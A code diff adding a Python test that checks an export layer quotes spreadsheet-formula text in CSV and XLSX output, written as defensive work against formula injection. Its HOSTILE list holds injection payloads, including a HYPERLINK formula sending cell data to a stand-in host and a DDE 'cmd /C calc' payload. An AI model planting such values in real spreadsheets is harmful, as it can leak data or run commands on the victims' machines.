@@ -404,3 +404,60 @@ def test_a_sheet_that_may_pass_2_gb_is_written_with_zip64_sizes(
         assert book.getinfo("xl/worksheets/sheet1.xml").extra  # the ZIP64 extra field
     got = pl.read_excel(path, sheet_name="data")
     assert got["code"].to_list() == frame["code"].to_list() and got.height == 100
+
+
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "   =1",
+    "\u00a0=1",
+    "\uff1d1+1",  # full-width equals sign
+    "\u3000\uff0b1",  # ideographic space, full-width plus
+]
+
+
+def test_text_a_spreadsheet_could_run_as_a_formula_is_guarded_in_csv_and_xlsx(
+    tmp_path: Path,
+) -> None:
+    """A group name starting with = + - @, a tab or a carriage return (after white space,
+    full-width forms too) reaches the CSV and the workbook with a single quote before it;
+    the workbook holds it as a string (never a <f> formula); negative numbers in numeric
+    columns stay numbers, and text that is harmless is unchanged."""
+    import xlsxwriter
+
+    from orchestration.disclosure import FORMULA_GUARD, as_text
+    from orchestration.extracts import _fill_sheets, _sheet_data
+
+    names = [*HOSTILE, "Friends of the Park", "a=b"]
+    frame = pl.DataFrame(
+        {
+            "activity_name": names,
+            "change": [-2.5] * len(names),
+            "count": [-5] + [10] * (len(names) - 1),
+            "count_is_suppressed": [False] * len(names),
+        }
+    )
+    expected = [FORMULA_GUARD + name for name in HOSTILE] + names[len(HOSTILE) :]
+    csv = tmp_path / "t.csv"
+    as_text(frame).write_csv(csv)
+    back = pl.read_csv(csv)
+    assert back["activity_name"].to_list() == expected
+    assert back["change"].to_list() == [-2.5] * len(names)  # a number, not text
+    assert back["count"][0] == -5
+
+    book_path = tmp_path / "t.xlsx"
+    with xlsxwriter.Workbook(book_path) as book:
+        book.add_worksheet("data")
+    _fill_sheets(book_path, {"xl/worksheets/sheet1.xml": _sheet_data(frame, DEFAULT_RULE)})
+    with zipfile.ZipFile(book_path) as book:
+        xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    got = pl.read_excel(book_path, sheet_name="data")
+    # an XML reader reads a carriage return in text as a line feed
+    assert got["activity_name"].to_list() == [text.replace("\r", "\n") for text in expected]
+    assert got["change"].to_list() == [-2.5] * len(names)
+    assert got["count"][0] == -5
